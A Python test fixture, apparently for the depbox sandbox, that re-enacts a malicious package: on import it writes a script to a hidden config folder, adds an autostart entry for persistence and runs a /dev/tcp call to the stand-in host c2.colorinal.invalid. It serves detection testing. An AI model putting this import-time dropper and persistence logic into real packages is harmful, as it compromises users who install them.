# TEST FIXTURE — re-enacts colorinal (the dependency of termncolor 3.1.0,
# MAL-2025-47454): importing it drops a payload, runs it and makes it start
# again at log-in. Inert: the "payload" is a shell script that contacts only
# c2.colorinal.invalid, and it runs only inside depbox's sandbox.
import os
import stat
import subprocess

_PAYLOAD = (
    "#!/bin/sh\n"
    "# TEST FIXTURE: stands in for the decrypted deftool payload\n"
    "uname -a > /dev/null\n"
    "exec 3<>/dev/tcp/c2.colorinal.invalid/443 2>/dev/null || true\n"
)


def _drop():
    d = os.path.expanduser("~/.config/.colorinal")
    os.makedirs(d, exist_ok=True)
    path = os.path.join(d, "deftool")
    with open(path, "w") as f:
        f.write(_PAYLOAD)
    os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)
    auto = os.path.expanduser("~/.config/autostart")
    os.makedirs(auto, exist_ok=True)
    with open(os.path.join(auto, "deftool.desktop"), "w") as f:
        f.write("[Desktop Entry]\nType=Application\nName=deftool\nExec=%s\n" % path)
    try:
        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait(timeout=3)
    except Exception:
        pass


_drop()


def enable():
    return True
